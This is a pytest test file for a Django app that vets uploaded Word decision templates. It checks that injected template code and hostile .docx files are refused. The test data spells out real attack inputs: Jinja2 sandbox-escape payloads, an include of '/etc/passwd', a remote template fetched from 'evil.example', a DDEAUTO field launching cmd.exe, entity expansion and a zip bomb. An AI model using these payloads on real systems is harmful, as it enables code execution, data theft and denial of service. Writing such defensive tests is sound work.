"""Office templates: what fills a paper is let through, everything that acts is refused with a sentence."""

import json
import time
import zipfile
from datetime import date
from io import BytesIO
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document
from docx.oxml.ns import qn
from docxtpl import DocxTemplate
from jinja2 import Environment

from teams.decision_document import decision_document
from teams.decision_templates import close_template, filled, run_template, save_template, values_of
from teams.decision_text import decision_text
from teams.decisions import save_decision
from teams.enums import DecisionAction
from teams.models import Decision, DecisionTemplate, Person
from teams.starter_template import starter_template
from teams.template_check import LISTS, MEMBER, PLAIN, check_source
from teams.template_sample import SAMPLE
from tests.cast import START, Cast, make_cast
from tests.teams.builders import make_draft_team, new_decision, proposal_of
from tests.teams.office_templates import repacked, template_file

LONGEST_SECONDS = 15
"""A hostile template is refused within 5 s of working time; the machine of the tests may be busy."""


@pytest.fixture
def cast(db: None) -> Cast:
    return make_cast()


def refused(content: bytes) -> str:
    """The code with which the template is refused."""
    with pytest.raises(ValidationError) as error:
        run_template(content, SAMPLE)
    [only] = error.value.error_dict["file"]
    assert only.message
    return str(only.code)


def text_of(content: bytes) -> str:
    document = Document(BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(one.text for one in document.paragraphs), *cells])


def filled_whole(content: bytes) -> str:
    """What a template says that lacks no placeholder and leaves no command behind."""
    missing, paper = run_template(content, SAMPLE)
    text = text_of(paper)
    assert missing == []
    assert "{%" not in text
    return text


# What is let through.


def test_a_good_template_is_filled() -> None:
    text = filled_whole(template_file())
    assert "Điều 1. Thành lập Tổ công nghệ số cộng đồng ấp Mẫu." in text
    assert "CHỦ TỊCH  NGUYỄN VĂN MẪU" in text
    assert "Trần Văn <Mẫu> & {{ 7*7 }}" in text


def test_missing_placeholders_are_listed() -> None:
    assert run_template(template_file("{{ subject }} {{ signer }}"), SAMPLE)[0] == [
        "number_line",
        "place_date",
        "legal_bases",
        "articles",
        "recipients",
        "teams",
        "members",
    ]


def test_the_sample_knows_every_placeholder() -> None:
    assert set(SAMPLE) == PLAIN | set(LISTS)
    assert set(SAMPLE["teams"][0]) == LISTS["teams"]
    assert set(SAMPLE["teams"][0]["members"][0]) == MEMBER


def test_unknown_placeholders_are_named() -> None:
    with pytest.raises(ValidationError) as error:
        run_template(template_file("{{ ten_xa }} {{ subject }} {{ so }}"), SAMPLE)
    assert "so, ten_xa" in error.value.messages[0]


# What is refused.

PROGRAMS = {
    "class": ("{{ subject.__class__ }}", "forbidden"),
    "mro": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "forbidden"),
    "globals": ("{{ cycler.__init__.__globals__ }}", "forbidden"),
    "self": ("{{ self.__init__ }}", "forbidden"),
    "attr": ("{{ subject|attr('__class__') }}", "forbidden"),
    "format": ("{{ '%s'|format(subject) }}", "forbidden"),
    "safe": ("{{ subject|safe }}", "forbidden"),
    "item": ("{{ subject[0] }}", "forbidden"),
    "call": ("{{ subject() }}", "forbidden"),
    "method": ("{{ subject.format(1) }}", "forbidden"),
    "billion": ("{% for i in range(1000000000) %}x{% endfor %}", "forbidden"),
    "nested": (
        "{% for a in teams %}{% for b in teams %}{% for c in teams %}x{% endfor %}{% endfor %}{% endfor %}",
        "forbidden",
    ),
    "recursive": ("{% for a in teams recursive %}{{ loop(teams) }}{% endfor %}", "forbidden"),
    "power": ("{{ 9**9**9 }}", "forbidden"),
    "product": ("{{ subject * 1000000000 }}", "forbidden"),
    "join": ("{{ subject ~ subject }}", "forbidden"),
    "set": ("{% set x = subject %}", "forbidden"),
    "macro": ("{% macro x() %}{% endmacro %}", "forbidden"),
    "include": ("{% include '/etc/passwd' %}", "forbidden"),
    "import": ("{% import 'os' as os %}", "forbidden"),
    "extends": ("{% extends 'x' %}", "forbidden"),
    "block": ("{% block x %}{% endblock %}", "forbidden"),
    "with": ("{% with x = 1 %}{% endwith %}", "forbidden"),
    "filter block": ("{% filter upper %}x{% endfilter %}", "forbidden"),
    "request": ("{{ request }}", "unknown"),
    "settings": ("{{ settings.SECRET_KEY }}", "unknown"),
    "lipsum": ("{{ lipsum }}", "unknown"),
    "loop outside": ("{{ loop.index }}", "unknown"),
    "field": ("{% for t in teams %}{{ t.area }}{% endfor %}", "unknown"),
    "python": ("{% do x %}", "syntax"),
    "open": ("{{ subject", "syntax"),
    "broken": ("{% for t in %}{% endfor %}", "syntax"),
    "debug": ("{% debug %}", "syntax"),
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_template_runs_nothing(name: str) -> None:
    source, code = PROGRAMS[name]
    start = time.perf_counter()
    assert refused(template_file(source)) == code
    assert time.perf_counter() - start < LONGEST_SECONDS


def test_what_the_plain_engine_would_have_shown() -> None:
    """The wrong twin: without check and sandbox the same template reads the inside of the program."""
    template = DocxTemplate(BytesIO(template_file(PROGRAMS["class"][0])))
    template.render({"subject": "x"}, Environment(autoescape=True))  # nosec B701 - this is the twin
    stream = BytesIO()
    template.save(stream)
    assert "class 'str'" in text_of(stream.getvalue())


def test_what_would_be_lost_without_escaping() -> None:
    """The wrong twin: unescaped, a name with < loses its words without a sound."""
    template = DocxTemplate(BytesIO(template_file("{{ subject }}")))
    template.render({"subject": "A <Mẫu> B & C"}, Environment(autoescape=False))  # nosec B701 - this is the twin
    stream = BytesIO()
    template.save(stream)
    assert "<Mẫu>" not in text_of(stream.getvalue())
    values = SAMPLE | {"subject": "A <Mẫu> B & C"}
    assert "A <Mẫu> B & C" in text_of(run_template(template_file("{{ subject }}"), values)[1])


@pytest.mark.parametrize("place", ["header", "title"])
def test_programs_hide_nowhere(place: str) -> None:
    assert refused(template_file("{{ subject }}", **{place: "{{ subject.__class__ }}"})) == "forbidden"


def test_a_placeholder_in_pieces_is_read_as_one() -> None:
    document = Document()
    paragraph = document.add_paragraph("{{ subject.")
    paragraph.add_run("__class__").bold = True
    paragraph.add_run(" }}")
    stream = BytesIO()
    document.save(stream)
    assert refused(stream.getvalue()) == "forbidden"


RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
BODY = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p></w:body></w:document>'
)
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'


def many_parts() -> bytes:
    return repacked(template_file(), {f"word/x{n}.xml": b"<x/>" for n in range(600)})


def sheet() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("xl/workbook.xml", "<workbook/>")
    return stream.getvalue()


FILES = {
    "macro": (lambda: repacked(template_file(), {"word/vbaProject.bin": b"x"}), "macro"),
    "macro type": (
        lambda: repacked(
            template_file(),
            {"[Content_Types].xml": b'<Types a="application/vnd.ms-word.document.macroEnabled.main+xml"/>'},
        ),
        "macro",
    ),
    "object": (lambda: repacked(template_file(), {"word/embeddings/a.xlsx": b"x"}), "macro"),
    "control": (lambda: repacked(template_file(), {"word/activeX/activeX1.xml": b"<x/>"}), "macro"),
    "remote template": (
        lambda: repacked(template_file(), {"word/_rels/settings.xml.rels": RELATIONS}),
        "outside",
    ),
    "field": (lambda: repacked(template_file(), {"word/document.xml": BODY}), "outside"),
    "entities": (lambda: repacked(template_file(), {"word/x.xml": ENTITIES}), "entity"),
    "bomb": (lambda: repacked(template_file(), {"word/media/x.xml": b" " * 40_000_000}), "too_large"),
    "parts": (many_parts, "too_large"),
    "workbook": (sheet, "no_word"),
    "text": (lambda: b"{{ subject }}", "no_word"),
    "empty": (lambda: b"", "no_word"),
    "cut": (lambda: template_file()[:4000], "no_word"),
    "no xml": (lambda: repacked(template_file(), {"word/document.xml": b"not xml"}), "no_word"),
}


@pytest.mark.parametrize("name", FILES)
def test_hostile_files_are_refused_in_time(name: str) -> None:
    make, code = FILES[name]
    content = make()
    start = time.perf_counter()
    assert refused(content) == code
    assert time.perf_counter() - start < LONGEST_SECONDS


def test_a_template_that_takes_for_ever_is_stopped() -> None:
    start = time.perf_counter()
    assert refused(template_file("{% " * 300_000)) in {"time", "syntax", "too_large"}
    assert time.perf_counter() - start < LONGEST_SECONDS + 10


def test_very_deep_nesting_is_refused() -> None:
    deep = "{% if subject %}" * 3000 + "x" + "{% endif %}" * 3000
    assert refused(template_file(deep)) in {"syntax", "too_large", "time"}


def test_only_texts_reach_the_child() -> None:
    json.dumps(SAMPLE)
    assert check_source("{{ subject }} {% if signer %}x{% endif %}") == {"subject", "signer"}


# Storing.


def upload(content: bytes | None = None, name: str = "mau.docx") -> Any:
    return SimpleUploadedFile(name, content if content is not None else template_file())


def new_template(area: Any, action: str = DecisionAction.ESTABLISH, **fields: Any) -> DecisionTemplate:
    return DecisionTemplate(area=area, action=action, **({"valid_from": START} | fields))


def test_a_template_is_kept_under_an_unguessable_name(cast: Cast) -> None:
    template = save_template(
        by=cast.minh, template=new_template(cast.places.commune), upload=upload(name="../../mẫu <xã>.docx")
    )
    assert template.file.name.startswith("templates/")
    assert len(template.file.name) > len("templates/.docx") + 30
    assert template.original_name == "mẫu <xã>.docx"
    assert template.missing == []
    default_storage.delete(template.file.name)


def test_nothing_is_kept_of_a_refused_template(cast: Cast) -> None:
    _folders, before = (
        default_storage.listdir("templates") if default_storage.exists("templates") else ([], [])
    )
    with pytest.raises(ValidationError):
        save_template(by=cast.minh, template=new_template(cast.places.commune), upload=upload(b"x"))
    assert not DecisionTemplate.objects.exists()
    _folders, after = (
        default_storage.listdir("templates") if default_storage.exists("templates") else ([], [])
    )
    assert before == after


@pytest.mark.parametrize(
    ("who", "place", "allowed"),
    [
        ("minh", "commune", True),
        ("minh", "province", False),
        ("minh", "other_commune", False),
        ("an", "province", True),
        ("an", "commune", True),
        ("binh", "commune", False),
        ("lan", "province", False),
        ("hoa", "commune", False),
    ],
)
def test_who_keeps_templates(cast: Cast, who: str, place: str, allowed: bool) -> None:
    template = new_template(getattr(cast.places, place), legal_bases=["Căn cứ A"])
    if allowed:
        assert save_template(by=getattr(cast, who), template=template).pk
        return
    with pytest.raises(PermissionDenied):
        save_template(by=getattr(cast, who), template=template)


def test_templates_do_not_overlap_and_are_closed(cast: Cast) -> None:
    first = save_template(by=cast.minh, template=new_template(cast.places.commune))
    with pytest.raises(ValidationError) as error:
        save_template(by=cast.minh, template=new_template(cast.places.commune, valid_from=date(2023, 1, 1)))
    assert error.value.error_dict["__all__"][0].code == "overlap"
    close_template(by=cast.minh, template=first, valid_to=date(2023, 1, 1))
    save_template(by=cast.minh, template=new_template(cast.places.commune, valid_from=date(2023, 1, 1)))
    with pytest.raises(ValidationError, match=r"kết thúc|sau"):
        close_template(by=cast.minh, template=first, valid_to=START)


def test_templates_belong_to_provinces_and_communes(cast: Cast) -> None:
    with pytest.raises(ValidationError):
        save_template(by=cast.minh, template=new_template(cast.places.hamlets[0]))


def test_a_decision_is_printed_in_the_offices_own_template(cast: Cast) -> None:
    template = save_template(by=cast.minh, template=new_template(cast.places.commune), upload=upload())
    team = make_draft_team(cast)
    decision = new_decision(cast.places.commune, date(2022, 8, 5), number=45)
    save_decision(by=cast.minh, decision=decision, items=[proposal_of(team)])
    person = proposal_of(team).entries.order_by("seat").first().person
    Person.objects.filter(pk=person.pk).update(full_name="{{ 7*7 }} & <b>")
    text = decision_text(cast.minh, Decision.objects.get(pk=decision.pk))
    assert text.wording.template == template
    assert set(values_of(text)) == set(SAMPLE)
    assert set(values_of(text)["teams"][0]) == set(SAMPLE["teams"][0])
    printed = text_of(filled(template, text))
    assert "Số: 45/QĐ-UBND" in printed
    assert "{{ 7*7 }} & <b>" in printed
    assert "49" not in printed
    default_storage.delete(template.file.name)
    with pytest.raises(ValidationError, match="tải mẫu lên lại"):
        filled(template, text)


# The template to begin with.


def test_the_starter_passes_the_check_and_lacks_nothing() -> None:
    text = filled_whole(starter_template())
    assert "Điều 2. Văn phòng Ủy ban nhân dân chịu trách nhiệm thi hành Quyết định này." in text
    assert "I. Tổ công nghệ số cộng đồng ấp Mẫu" in text
    assert "Tổng cộng: 1 tổ, 2 thành viên" in text
    assert text.count("Lê Thị Mẫu") == 1


def test_the_starter_printed_says_what_the_register_itself_prints(cast: Cast) -> None:
    decision = new_decision(cast.places.commune, date(2022, 8, 5), number=45)
    save_decision(by=cast.minh, decision=decision, items=[proposal_of(make_draft_team(cast))])
    words = decision_text(cast.minh, Decision.objects.get(pk=decision.pk))
    own = lines_of(decision_document(words))
    printed = lines_of(run_template(starter_template(), values_of(words))[1])
    place = len(words.body)
    assert printed[0] == " ".join(own[:place])
    assert printed[1:] == own[place:]


def lines_of(content: bytes) -> list[str]:
    """Every line of the paper with words in it, in their order; cells of a table one by one."""
    body = Document(BytesIO(content)).element.body
    found = ["".join(one.text or "" for one in line.iter(qn("w:t"))) for line in body.iter(qn("w:p"))]
    return [line for line in found if line]


def test_the_starter_is_offered_and_can_be_handed_in(cast: Cast, client: Client) -> None:
    client.force_login(cast.minh)
    page = client.get(reverse("teams:template_list")).content.decode()
    assert reverse("teams:template_starter") in page
    answer = client.get(reverse("teams:template_starter"))
    assert answer["Content-Disposition"] == 'attachment; filename="mau-quyet-dinh.docx"'
    template = DecisionTemplate(
        area=cast.places.commune, action=DecisionAction.ESTABLISH, valid_from=date(2022, 1, 1)
    )
    upload = SimpleUploadedFile("mau.docx", answer.content)
    assert save_template(by=cast.minh, template=template, upload=upload).missing == []
